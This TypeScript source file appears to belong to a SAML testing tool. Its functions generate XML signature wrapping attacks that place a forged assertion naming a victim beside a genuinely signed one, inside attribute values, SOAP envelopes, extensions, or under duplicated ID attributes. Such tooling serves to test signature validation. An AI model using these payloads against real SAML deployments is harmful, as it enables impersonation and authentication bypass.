/** More places in which a forgery, or the genuine message, can stand beside the other: values, statements, envelopes, other attributes for its ID. */

import type { Mutation } from '../protocol/types.ts';
import { namespaces } from '../protocol/uris.ts';
import { insertAt, replaceSpan, setAttribute } from '../protocol/xml-text.ts';
import { first, outerOfFirst } from './elements.ts';
import { behindIssuer, forgedAssertion, signatureOf, unsignedVictimTwin, withoutOwnSignature } from './victim.ts';
import { beforeAssertion, withExtensions } from './wrapping.ts';

/** A value of the forged assertion holds the genuine one. */
export function genuineInAttributeValue(): Mutation {
  return {
    afterSigning: (xml, facts) => {
      const value = `<AttributeValue>${outerOfFirst(xml, 'Assertion')}</AttributeValue>`;
      const statement = `<AttributeStatement><Attribute Name="urn:samlproof:evidence">${value}</Attribute></AttributeStatement>`;
      const forged = forgedAssertion(facts, facts.newId());
      const holding = insertAt(forged, first(forged, 'Assertion').closeStart, statement);
      return replaceSpan(xml, first(xml, 'Assertion'), holding);
    },
  };
}

/** The victim's AttributeStatement stands in no assertion: before the signed one, in Extensions, or behind it. */
export function bareAttributeStatement(place: 'extensions' | 'behind'): Mutation {
  return {
    afterSigning: (xml, facts) => {
      const text = outerOfFirst(forgedAssertion(facts, undefined), 'AttributeStatement');
      const statement = setAttribute(text, first(text, 'AttributeStatement'), 'xmlns', namespaces.saml);
      if (place === 'extensions') return withExtensions(xml, statement);
      return insertAt(xml, first(xml, 'Assertion').end, statement);
    },
  };
}

/** A SOAP envelope holds two responses: the genuine one, and an unsigned one that names the victim. */
export function twoInEnvelope(genuine: 'first' | 'last'): Mutation {
  return {
    afterSigning: (xml, facts) => {
      const [own, forged] = [xml, unsignedVictimTwin(facts)].map((text) => outerOfFirst(text, 'Response'));
      const [header = '', body = ''] = genuine === 'first' ? [own, forged] : [forged, own];
      const soap = 'http://schemas.xmlsoap.org/soap/envelope/';
      return `<s:Envelope xmlns:s="${soap}"><s:Header>${header}</s:Header><s:Body>${body}</s:Body></s:Envelope>`;
    },
  };
}

/** The forged assertion before the signed one repeats its ID in an attribute that other languages spell so. */
export function idSpelled(attribute: 'id' | 'Id' | 'xml:id'): Mutation {
  return beforeAssertion((facts) => {
    const forged = forgedAssertion(facts, facts.newId());
    return setAttribute(forged, first(forged, 'Assertion'), attribute, facts.plan.assertions[0]?.id ?? '');
  });
}

/** The same on a forged assertion that carries the genuine Signature; the genuine assertion stands behind it without. */
export function idSpelledOnForged(attribute: 'id'): Mutation {
  return {
    afterSigning: (xml, facts) => {
      const forged = behindIssuer(forgedAssertion(facts, facts.newId()), signatureOf(xml, 'Assertion'));
      const spelled = setAttribute(forged, first(forged, 'Assertion'), attribute, facts.plan.assertions[0]?.id ?? '');
      return replaceSpan(xml, first(xml, 'Assertion'), spelled + withoutOwnSignature(outerOfFirst(xml, 'Assertion')));
    },
  };
}
